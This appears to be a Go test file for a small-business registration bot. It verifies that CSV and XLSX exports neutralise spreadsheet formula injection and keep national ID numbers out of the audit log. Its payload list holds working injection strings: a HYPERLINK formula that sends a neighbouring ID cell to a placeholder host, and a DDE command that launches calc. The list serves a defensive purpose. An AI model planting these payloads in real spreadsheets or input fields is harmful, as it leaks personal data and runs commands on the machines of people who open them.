package main

import (
	"context"
	"encoding/csv"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/umkmbot/umkmbot/bot"
	"github.com/umkmbot/umkmbot/bot/pii"
	"github.com/umkmbot/umkmbot/bot/umkm"
	"github.com/umkmbot/umkmbot/store"
	"github.com/umkmbot/umkmbot/store/redistest"
)

// payloads are values that a spreadsheet takes for a formula, from the
// issue: the first sends a neighbouring cell (a NIK) to another site.
var payloads = []string{
	`=HYPERLINK("http://contoh.invalid/?n="&T2,"Klik")`,
	`+cmd|' /C calc'!A0`,
	`-2+3`,
	`@SUM(1+1)`,
	"\t=1+1",
	"\r=1+1",
}

// seedInjection stores, for every payload, a registration whose every
// free-text field is the payload, a participant of training 1, a curation
// application and a broadcast carrying it.
func seedInjection(t *testing.T, s *store.Store) {
	t.Helper()
	ctx := context.Background()
	now := time.Now()
	tr := &umkm.Training{Title: "Kemasan", Topic: "kemasan", Organiser: "Dinas", Start: now.Add(72 * time.Hour),
		End: now.Add(75 * time.Hour), Place: "Aula", Capacity: 50, Deadline: now.Add(48 * time.Hour), Status: umkm.TrainingOpen}
	if err := s.CreateTraining(ctx, tr); err != nil {
		t.Fatal(err)
	}
	for i, p := range payloads {
		conv := bot.Conversation{Channel: bot.Telegram, User: fmt.Sprint(100 + i)}
		r := &umkm.Registration{Region: "32.14", RegisteredAt: now, Conv: conv, OwnerName: p,
			NIK: fmt.Sprintf("32140155039%05d", i+1), Phone: fmt.Sprintf("+628123456%04d", i), BusinessName: p,
			Sector: "kuliner", Kecamatan: p, Desa: p, Address: p, MainProducts: p, CapitalBracket: "modal_le1m",
			SalesBracket: "omzet_le2m", SizeClass: "mikro", Workers: 2, NIB: p, Marketplaces: []string{"shopee"}, ConsentAt: now}
		if err := s.CreateRegistration(ctx, r, 1); err != nil {
			t.Fatal(err)
		}
		if _, err := s.Enrol(ctx, umkm.Enrolment{Training: tr.ID, Conv: conv, Registration: r.ID, At: now}, true); err != nil {
			t.Fatal(err)
		}
		a := &umkm.Application{Region: "32.14", Conv: conv, RegistrationID: r.ID, Business: p, Target: "ritel",
			TargetName: p, Products: []string{p}, CreatedAt: now}
		if err := s.SubmitApplication(ctx, a); err != nil {
			t.Fatal(err)
		}
		if _, err := s.SetApplicationStatus(ctx, a.ID, umkm.StatusRejected, p, now); err != nil {
			t.Fatal(err)
		}
		b := &umkm.Broadcast{Region: "32.14", Text: p, Audience: umkm.Audience{Kecamatan: []string{p}}, CreatedAt: now, At: now.Add(time.Hour)}
		if err := s.CreateBroadcast(ctx, b); err != nil {
			t.Fatal(err)
		}
	}
}

// readXLSX returns the rows of the workbook's only sheet and checks that
// every cell is a text cell without a formula.
func readXLSX(t *testing.T, data string) [][]string {
	t.Helper()
	f, err := excelize.OpenReader(strings.NewReader(data))
	if err != nil {
		t.Fatalf("not a workbook: %v", err)
	}
	defer f.Close()
	sheets := f.GetSheetList()
	if len(sheets) != 1 {
		t.Fatalf("sheets = %v, want one", sheets)
	}
	rows, err := f.GetRows(sheets[0])
	if err != nil {
		t.Fatal(err)
	}
	for r, row := range rows {
		for c := range row {
			cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
			typ, _ := f.GetCellType(sheets[0], cell)
			if row[c] != "" && typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
				t.Errorf("%s %s = %q is not a text cell (type %v)", sheets[0], cell, row[c], typ)
			}
			if formula, _ := f.GetCellFormula(sheets[0], cell); formula != "" {
				t.Errorf("%s %s holds a formula %q", sheets[0], cell, formula)
			}
		}
	}
	if panes, err := f.GetPanes(sheets[0]); err != nil || !panes.Freeze || panes.YSplit != 1 {
		t.Errorf("%s: header row not frozen: %+v %v", sheets[0], panes, err)
	}
	return rows
}

// TestExportInjection: every dangerous prefix in every free-text field of
// every export, CSV and XLSX, comes out with the apostrophe in front; no
// cell of any export starts with a character a spreadsheet evaluates.
func TestExportInjection(t *testing.T) {
	rdb, prefix := redistest.Client(t)
	s := store.New(rdb, store.Options{Prefix: prefix, Cipher: testKeys(t)})
	seedInjection(t, s)
	env := map[string]string{"REDIS_URL": redistest.URL(), "REDIS_PREFIX": prefix}
	exports := []struct {
		args     []string
		freeText []string // columns holding a payload in every row
	}{
		{[]string{"export", "registrations", "--include-nik", "--include-phone"},
			[]string{"owner_name", "business_name", "kecamatan", "desa", "address", "main_products", "nib"}},
		{[]string{"training", "participants", "1", "--include-phone"}, []string{"owner_name", "business_name", "kecamatan"}},
		{[]string{"export", "curation"}, []string{"business_name", "target_name", "products", "note"}},
		{[]string{"export", "broadcasts"}, []string{"text"}},
	}
	for _, e := range exports {
		for _, format := range []string{"csv", "xlsx"} {
			name := strings.Join(e.args[:2], " ") + " " + format
			out := umkmbot(t, env, "", append(e.args, "--format", format)...)
			var rows [][]string
			if format == "csv" {
				rows = readCSV(t, out)
			} else {
				rows = readXLSX(t, out)
			}
			if len(rows) != len(payloads)+1 {
				t.Fatalf("%s: %d rows, want header + %d", name, len(rows), len(payloads))
			}
			col := map[string]int{}
			for i, h := range rows[0] {
				col[h] = i
			}
			seen := map[string]bool{}
			for _, row := range rows[1:] {
				for i, cell := range row {
					if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
						t.Errorf("%s: column %s = %q is not neutralised", name, rows[0][i], cell)
					}
				}
				for _, c := range e.freeText {
					i, ok := col[c]
					if !ok || i >= len(row) || !strings.HasPrefix(row[i], "'") {
						t.Errorf("%s: column %s = %q, want a payload behind an apostrophe", name, c, row[min(i, len(row)-1)])
						continue
					}
					seen[strings.TrimPrefix(row[i], "'")] = true
				}
			}
			for _, p := range payloads {
				if !seen[p] && !seen[strings.ReplaceAll(p, "\r", "\n")] {
					t.Errorf("%s: payload %q not found behind an apostrophe", name, p)
				}
			}
		}
	}
}

// TestExportXLSXLabelsAndText: the workbook shows the labels the chat
// shows instead of codes, and a full NIK and phone as text.
func TestExportXLSXLabelsAndText(t *testing.T) {
	rdb, prefix := redistest.Client(t)
	s := store.New(rdb, store.Options{Prefix: prefix, Cipher: testKeys(t)})
	seedInjection(t, s)
	env := map[string]string{"REDIS_URL": redistest.URL(), "REDIS_PREFIX": prefix}
	rows := readXLSX(t, umkmbot(t, env, "", "export", "registrations", "--format", "xlsx", "--include-nik", "--include-phone"))
	row := map[string]string{}
	for i, h := range rows[0] {
		row[h] = rows[1][i]
	}
	for col, want := range map[string]string{
		"sector": "Kuliner (makanan & minuman)", "capital_bracket": "Sampai Rp1 miliar", "annual_sales_bracket": "Sampai Rp2 miliar",
		"size_class": "Mikro", "marketplaces": "Shopee", "nik": "3214015503900001", "phone": "'+6281234560000",
	} {
		if row[col] != want {
			t.Errorf("column %s = %q, want %q", col, row[col], want)
		}
	}

	// --excel starts the CSV with a byte order mark; without it, none.
	if out := umkmbot(t, env, "", "export", "registrations", "--excel"); !strings.HasPrefix(out, "\ufeff") {
		t.Errorf("--excel: output starts %q", out[:8])
	}
	csvOut := umkmbot(t, env, "", "export", "registrations")
	if strings.HasPrefix(csvOut, "\ufeff") {
		t.Error("a plain CSV starts with a byte order mark")
	}
	recs, err := csv.NewReader(strings.NewReader(csvOut)).ReadAll()
	if err != nil || recs[1][7] != "kuliner" || recs[1][12] != "modal_le1m" {
		t.Errorf("CSV keeps codes: %v %v", recs[1], err)
	}
}

// TestExportAudited: each export, check-in and status change is in the
// audit log with who, what and how many; the NIK never is.
func TestExportAudited(t *testing.T) {
	rdb, prefix := redistest.Client(t)
	s := store.New(rdb, store.Options{Prefix: prefix, Cipher: testKeys(t)})
	seedInjection(t, s)
	env := map[string]string{"REDIS_URL": redistest.URL(), "REDIS_PREFIX": prefix, "USER": "budi"}
	umkmbot(t, env, "", "export", "registrations", "--format", "xlsx", "--include-nik")
	umkmbot(t, env, "", "training", "participants", "1")
	a := &umkm.Application{Region: "32.14", Conv: bot.Conversation{Channel: bot.Telegram, User: "100"}, RegistrationID: "UMKM-3214-000001",
		Business: "Keripik", Target: "ritel", TargetName: "Ritel modern", CreatedAt: time.Now()}
	if err := s.SubmitApplication(context.Background(), a); err != nil {
		t.Fatal(err)
	}
	umkmbot(t, env, "", "curation", "set-status", a.ID, "ditinjau")
	list := umkmbot(t, env, "", "audit", "list", "--since", "1h")
	for _, want := range []string{
		"export        registrations",
		"reveal_nik    registrations",
		"training 1 participants",
		"status_change KUR-3214-000007",
	} {
		if !strings.Contains(strings.Join(strings.Fields(list), " "), strings.Join(strings.Fields(want), " ")) {
			t.Errorf("audit list lacks %q:\n%s", want, list)
		}
	}
	if !strings.Contains(list, "cli:budi@") || !strings.Contains(list, "format=xlsx nik=full") || !strings.Contains(list, "diajukan→ditinjau") {
		t.Errorf("audit list lacks actor or detail:\n%s", list)
	}
	var entries []umkm.AuditEntry
	if err := s.AuditLog(0).List(context.Background(), time.Time{}, func(e umkm.AuditEntry) error { entries = append(entries, e); return nil }); err != nil {
		t.Fatal(err)
	}
	if len(entries) != 4 || entries[0].Count != len(payloads) {
		t.Errorf("entries = %+v, want export, reveal_nik, participants, status change; %d rows", entries, len(payloads))
	}
	if future := umkmbot(t, env, "", "audit", "list", "--since", "2099-01-01"); strings.Count(future, "\n") != 1 {
		t.Errorf("--since in the future lists:\n%s", future)
	}
	if strings.Contains(list, "3214015503900001") {
		t.Error("the audit log holds a NIK")
	}
}

// testKeys are the data keys the program uses in these tests.
func testKeys(t *testing.T) *pii.Keyring {
	t.Helper()
	k, err := pii.Parse(testDataKey)
	if err != nil {
		t.Fatal(err)
	}
	return k
}
